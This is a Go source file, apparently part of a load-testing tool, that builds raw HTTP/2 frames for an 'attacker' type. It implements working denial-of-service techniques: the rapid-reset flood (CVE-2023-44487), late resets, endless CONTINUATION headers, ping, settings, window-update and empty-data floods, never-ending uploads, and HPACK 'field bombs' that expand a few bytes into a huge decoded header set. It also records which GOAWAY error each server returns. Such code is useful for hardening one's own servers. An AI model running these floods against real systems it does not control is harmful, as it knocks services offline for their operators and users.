package loadtest

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"strconv"
	"time"

	"golang.org/x/net/http2/hpack"
)

// Types and flags of frames (RFC 9113, section 6).
const (
	typeData         = 0x0
	typeHeaders      = 0x1
	typeReset        = 0x3
	typeSettings     = 0x4
	typePing         = 0x6
	typeGoAway       = 0x7
	typeWindowUpdate = 0x8
	typeContinuation = 0x9

	flagEndStream  = 0x1
	flagEndHeaders = 0x4
)

// appendFrame adds a frame (RFC 9113, section 4.1).
func appendFrame(dst []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	dst = append(dst, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	dst = binary.BigEndian.AppendUint32(dst, stream)
	return append(dst, payload...)
}

// block is the field block of a request. It leaves the dynamic table alone, so that any number may be sent.
func block(method, path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: path}, {Name: ":authority", Value: host},
	} {
		f.Sensitive = f.Name == ":path" || f.Name == ":authority" // "never indexed"
		_ = e.WriteField(f)                                       // into memory
	}
	return b.Bytes()
}

// preface begins a connection that may receive a lot.
func preface(*attacker) []byte {
	return appendFrame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), typeSettings, 0, 0, nil)
}

// frames is n times what one adds.
func frames(n int, one func(dst []byte) []byte) (all []byte) {
	for range n {
		all = one(all)
	}
	return all
}

// id takes the next stream.
func (a *attacker) id() uint32 {
	a.stream += 2
	return a.stream - 2
}

// rapidResets begins requests and takes them back (CVE-2023-44487).
func rapidResets(a *attacker) []byte {
	head := block("GET", healthPath)
	return frames(50, func(dst []byte) []byte {
		id := a.id()
		dst = appendFrame(dst, typeHeaders, flagEndHeaders|flagEndStream, id, head)
		return appendFrame(dst, typeReset, 0, id, []byte{0, 0, 0, 8}) // CANCEL
	})
}

// lateResets begins requests, and takes them back when servers work on them.
func lateResets(a *attacker) (b []byte) {
	if len(a.begun) > 0 {
		for _, id := range a.begun {
			b = appendFrame(b, typeReset, 0, id, []byte{0, 0, 0, 8}) // CANCEL
		}
		a.begun = a.begun[:0]
		return b
	}
	return frames(10, func(dst []byte) []byte {
		s := a.script("late-reset")
		s.Wait = time.Second
		id := a.id()
		a.begun = append(a.begun, id)
		return appendFrame(dst, typeHeaders, flagEndHeaders|flagEndStream, id, block("GET", s.target()))
	})
}

// endlessHead begins a field block that never ends.
func endlessHead(a *attacker) []byte {
	return appendFrame(preface(a), typeHeaders, flagEndStream, a.id(), block("GET", healthPath))
}

// continuations goes on with it, by fields and by frames that have none.
func continuations(a *attacker) []byte {
	field := append([]byte{0x00, 6}, "x-slow"...) // literal, not indexed, new name
	field = append(append(field, 8), "12345678"...)
	return frames(20, func(dst []byte) []byte {
		dst = appendFrame(dst, typeContinuation, 0, 1, nil)
		return appendFrame(dst, typeContinuation, 0, 1, field)
	})
}

func pings(*attacker) []byte {
	return frames(100, func(dst []byte) []byte { return appendFrame(dst, typePing, 0, 0, make([]byte, 8)) })
}

func settings(*attacker) []byte {
	return frames(100, func(dst []byte) []byte { return appendFrame(dst, typeSettings, 0, 0, []byte{0, 4, 0, 1, 0, 0}) })
}

// openUpload begins a request whose body never ends.
func openUpload(a *attacker) []byte {
	s := a.script("empty-data")
	s.Up = 1 << 30
	return appendFrame(preface(a), typeHeaders, flagEndHeaders, a.id(), block("POST", s.target()))
}

func emptyData(*attacker) []byte {
	return frames(100, func(dst []byte) []byte { return appendFrame(dst, typeData, 0, 1, nil) })
}

// windowUpdates are small enough never to overflow the window.
func windowUpdates(*attacker) []byte {
	return frames(500, func(dst []byte) []byte { return appendFrame(dst, typeWindowUpdate, 0, 0, []byte{0, 0, 0, 1}) })
}

// fieldBombs are requests of few octets that stand for many: a long value goes into the dynamic table, and then each octet
// of the block names it again.
func fieldBombs(a *attacker) []byte {
	b := block("GET", healthPath)
	b = append(b, 0x40, 1, 'x', 0x7f, 0xa1, 0x1e) // literal with indexing; the value's length is 127 + 33 + 30<<7 = 4000
	b = append(b, bytes.Repeat([]byte{'v'}, 4000)...)
	b = append(b, bytes.Repeat([]byte{0x80 | 62}, 10_000)...) // the newest entry of the table
	return appendFrame(nil, typeHeaders, flagEndHeaders|flagEndStream, a.id(), b)
}

// nameOf names an error code (RFC 9113, section 7) that floods meet, and numbers others.
func nameOf(code uint32) string {
	switch code {
	case 0:
		return "NO_ERROR"
	case 1:
		return "PROTOCOL_ERROR"
	case 9:
		return "COMPRESSION_ERROR"
	case 11:
		return "ENHANCE_YOUR_CALM"
	default:
		return strconv.Itoa(int(code))
	}
}

// endingHTTP2 reads frames to the connection's end and says what the last GOAWAY said.
func endingHTTP2(c net.Conn) string {
	how := "closed"
	var head [9]byte
	for {
		if _, err := io.ReadFull(c, head[:]); err != nil {
			return how
		}
		payload := make([]byte, int(head[0])<<16|int(head[1])<<8|int(head[2]))
		if _, err := io.ReadFull(c, payload); err != nil {
			return how
		}
		if head[3] == typeGoAway && len(payload) >= 8 {
			how = "GOAWAY " + nameOf(binary.BigEndian.Uint32(payload[4:]))
		}
	}
}
